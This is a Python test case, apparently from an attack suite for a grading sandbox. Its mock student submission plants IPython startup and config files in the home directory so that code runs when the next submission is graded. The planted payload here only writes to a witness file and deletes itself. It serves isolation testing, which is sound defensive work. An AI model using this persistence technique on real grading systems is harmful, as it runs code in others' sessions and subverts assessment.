"""Leaves start-up files of IPython in its home, for the next student's kernel."""

from tests.attacks.suite import STUB, Attack

ATTACK = Attack(
    harm="code that runs when the next submission is graded",
    answer=STUB
    + """
import os

# What is planted tells the witness, once, and removes itself. Nothing that exists is overwritten.
PLANTED = '''
import os
try:
    os.remove({path!r})
    if os.path.isdir({witness!r}):
        with open({witness!r} + "/" + {name!r}, "a") as file:
            file.write("ran a planted file\\\\n")
except OSError:
    pass
'''
home = os.path.expanduser("~")
folders = {os.environ.get("IPYTHONDIR"), f"{home}/.ipython", f"{home}/.config/ipython"} - {None}
for folder in folders:
    for place in ("profile_default/startup/00-first.py", "profile_default/ipython_config.py"):
        path = f"{folder}/{place}"
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "x") as file:
                file.write(PLANTED.format(path=path, witness=WITNESS, name=NAME))
        except OSError:
            pass
""",
)
